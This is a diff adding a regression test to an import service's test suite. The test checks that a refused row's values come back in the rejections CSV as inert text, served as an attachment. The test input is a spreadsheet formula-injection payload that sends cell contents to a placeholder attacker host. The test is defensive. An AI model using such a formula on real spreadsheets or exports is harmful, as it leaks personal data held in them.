@@ -45,6 +45,16 @@ describe('bulk import of a register export', () => {
     return { id: job.body.id as string, done };
   }
 
+  it("reports a refused row's own values as text a spreadsheet shows and never runs, as an attachment (issue 21, finding 12)", async () => {
+    const attack = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
+    const file = [HEADER, `"${attack.replace(/"/g, '""')}",adult,Bad,Date,31/02/1961,,SN10 1AA,,,,,`].join('\n');
+    const { id } = await importFile(file);
+    const report = await request(service.url).get(`/imports/${id}/rejections.csv`).set(officer).expect(200);
+    expect(report.headers['content-disposition']).toBe('attachment; filename="rejections.csv"');
+    const [, row] = parse(report.text);
+    expect(row[1]).toBe(`'${attack}`);
+  });
+
   it('imports the good rows, reports the refused ones with reasons, and publishes an event per new carer', async () => {
     const { id, done } = await importFile(FILE);
     expect(done.status).toBe(200);
